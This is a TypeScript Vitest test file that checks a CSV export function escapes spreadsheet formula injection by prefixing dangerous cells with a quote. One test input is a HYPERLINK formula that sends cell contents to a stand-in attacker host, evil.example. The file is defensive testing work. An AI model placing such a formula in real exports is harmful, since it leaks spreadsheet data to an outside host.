import Papa from "papaparse";
import { describe, expect, it } from "vitest";
import { BOM, toCsv } from "./csv.ts";

const parse = (csv: string) => Papa.parse<Record<string, string>>(csv.slice(BOM.length), { header: true, skipEmptyLines: true }).data;

describe("toCsv (the /v1 downloads)", () => {
  it("escapes a formula with a line break inside it, which papaparse's own pattern lets through", () => {
    const payload = '=HYPERLINK("https://evil.example/?d="&A1,\n"Open het rapport")';
    const [row] = parse(toCsv(["name"], [{ name: payload }]));
    expect(row?.name).toBe(`'${payload}`);
  });

  it("escapes formulas after leading line breaks or spaces, and leaves numbers and plain text alone", () => {
    const rows = parse(toCsv(["a", "b", "c", "d"], [{ a: "\n=1+1", b: "  @SUM(A1)", c: -5, d: "Zorgpact = samen" }]));
    expect(rows).toEqual([{ a: "'\n=1+1", b: "'  @SUM(A1)", c: "-5", d: "Zorgpact = samen" }]);
  });
});
